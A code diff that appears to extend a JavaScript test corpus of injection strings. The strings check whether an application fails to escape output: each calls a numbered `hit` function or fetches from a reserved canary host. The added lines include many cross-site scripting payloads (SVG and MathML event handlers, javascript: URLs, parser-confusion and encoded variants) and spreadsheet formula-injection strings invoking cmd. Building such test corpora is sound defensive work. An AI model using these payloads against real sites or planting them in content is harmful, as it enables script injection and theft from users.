@@ -1,4 +1,7 @@
-// Texts that run a script wherever one is forgotten to be escaped: each calls `hit` with its own number.
+// Texts that run a script wherever one is forgotten to be escaped: each calls `hit` with its own number, or asks another host.
+
+/** A host that only these texts know: whoever asks it has followed one of them. */
+const CANARY = 'canary.invalid';
 
 /** What a text may stand in, and has to leave first. */
 const WAYS_OUT = [
@@ -53,7 +56,39 @@ const ELEMENTS = [
   (call) => `<form action="javascript:${call}"><button>x</button></form>`,
   (call) => `<div style="background:url(javascript:${call})" onmouseover=${call}>x</div>`,
   (call) => `<style>@keyframes x{}</style><b style="animation:x 1s" onanimationstart=${call}>x</b>`,
+  (call) => `<script type=module>${call}</script>`,
+  (call) => `<script xmlns="http://www.w3.org/1999/xhtml">${call}</script>`,
+  (call) => `<x:script xmlns:x="http://www.w3.org/1999/xhtml">${call}</x:script>`,
+  (call) => `<svg><a xlink:href="javascript:${call}"><text y=9>x</text></a></svg>`,
+  (call) => `<svg><use href="data:image/svg+xml,<svg id=x onload=${call} />#x"/></svg>`,
+  (call) => `<svg><set attributeName=href to="javascript:${call}" onbegin=${call}>`,
+  (call) => `<svg><style><img src=x onerror=${call}></style></svg>`,
+  (call) => `<math><maction actiontype="statusline" xlink:href="javascript:${call}">x</maction></math>`,
+  (call) => `<math><annotation-xml encoding="text/html"><img src=x onerror=${call}></annotation-xml></math>`,
+  (call) => `<select><iframe></select><img src=x onerror=${call}>`,
+  (call) => `<table><td><svg onload=${call}></table>`,
+  (call) => `<p id="</p><img src=x onerror=${call}>">`,
+  (call) => `<xmp><p title="</xmp><img src=x onerror=${call}>">`,
+  (call) => `<a id=location href="javascript:${call}" accesskey=x onfocus=${call} tabindex=1>x</a>`,
+  (call) => `<meta http-equiv=refresh content="0;url=javascript:${call}">`,
+  (call) => `<marquee onstart=${call}>x</marquee>`,
+  (call) => `<audio src=x onerror=${call}></audio>`,
+  (call) => `<body onload=${call} onpageshow=${call}>`,
+  (call) => `<isindex formaction="javascript:${call}" type=submit>`,
+  (call) => `<button popovertarget=x onbeforetoggle=${call}>x</button>`,
+  (call) => `<img src=x onerror="${entities(call)}">`,
+  (call) => `<svg><script>${entities(call)}</script></svg>`,
+  () => `<img src="//${CANARY}/a.png">`,
+  () => `<link rel=stylesheet href="https://${CANARY}/a.css">`,
+  () => `<style>@import "//${CANARY}/b.css";</style>`,
+  () => `<base href="//${CANARY}/">`,
+  () => `<iframe src="//${CANARY}/"></iframe>`,
 ];
+
+/** Each letter as a character reference. @param {string} text */
+function entities(text) {
+  return text.replace(/./g, (letter) => `&#x${letter.charCodeAt(0).toString(16)}`);
+}
 
 /** @type {((call: string) => string)[]} */
 const TEXTS = [
@@ -82,6 +117,32 @@ const TEXTS = [
   (call) => `+cmd|' /C ${call}'!A0`,
   (call) => `-2+3+cmd|'${call}'!A0`,
   (call) => `@SUM(1)*cmd|'${call}'!A0`,
+  (call) => `\t=WEBSERVICE("http://${CANARY}/"&${call})`,
+  (call) => `;=cmd|'/C ${call}'!A0`,
+  (call) => `＝HYPERLINK("javascript:${call}")`,
+  (call) => `[x](javascript:${call})`,
+  (call) => `![x](x" onerror="${call})`,
+  (call) => `<javascript:${call}>`,
+  (call) => `\`\`\`html\n<img src=x onerror=${call}>`,
+  (call) => `\u202e<svg onload=${call}>`,
+  (call) => `\ufeff<svg onload=${call}>`,
+  (call) => `<\u200bsvg onload=${call}><svg/onload=${call}>`,
+  (call) => `‹svg onload=${call}›`,
+  (call) => `ſcript<ſcript>${call}</ſcript>`,
+  (call) => `<ımg src=x onerror=${call}>`,
+  (call) => `+ADw-script+AD4-${call}+ADw-/script+AD4-`,
+  (call) => `vbscript:${call}`,
+  (call) => `feed:javascript:${call}`,
+  (call) => `view-source:javascript:${call}`,
+  (call) => `//${CANARY}/?${call}`,
+  (call) => `expression(${call})`,
+  (call) => `x;background:url(//${CANARY}/c.png);${call}`,
+  (call) => `#{${call}}<%= ${call} %>{%${call}%}`,
+  (call) => `$&${call}$\`$'`,
+  (call) => `"></script><svg/onload=${call}>`,
+  (call) => `]]><script xmlns="http://www.w3.org/1999/xhtml">${call}</script>`,
+  (call) => `</loc><script xmlns="http://www.w3.org/1999/xhtml">${call}</script>`,
+  (call) => `__html:${call}`,
 ];
 
 /** All of them; the number that a text calls `hit` with is its place. */
